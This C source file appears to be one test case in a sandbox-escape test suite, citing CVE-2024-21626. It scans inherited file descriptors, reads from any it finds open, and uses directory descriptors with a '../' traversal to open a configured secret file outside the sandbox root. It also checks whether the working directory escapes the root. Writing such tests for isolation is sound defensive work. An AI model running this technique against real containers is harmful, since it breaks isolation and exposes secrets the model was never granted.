// id = "files-leaked-directory"
// title = "find an inherited descriptor or working directory that leads out"
// guarantee = "secrets"
// layers = ["agent"]
// source = ["CVE-2024-21626", "go-judge v0.9.5-v1.1.4"]
// needs = ["secret-file", "service-fd"]
// bare = "user"
#include "attack.h"
#include <sys/stat.h>

int main(int argc, char **argv) {
    attack_start(argc, argv);
    const char *path = prop("secret_path");
    char name[4400];
    for (int fd = 0; fd < 65536; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        struct stat info;
        if (fd > 2) {
            snprintf(name, sizeof name, "descriptor %d", fd);
            tried(name, fd);
            char text[300];
            ssize_t length = pread(fd, text, sizeof text - 1, 0);
            if (length > 0) text[length] = 0, printf("READ %s\n", text);
        }
        if (fstat(fd, &info) == 0 && S_ISDIR(info.st_mode)) {
            snprintf(name, sizeof name, "../../../../../../../../../..%s", path);
            int out = openat(fd, name, O_RDONLY);
            if (tried("file through it", out)) attack_show(out);
        }
    }
    char cwd[4096];
    if (!getcwd(cwd, sizeof cwd) || cwd[0] != '/') tried("working directory outside the root", 0);
    attack_finish();
}
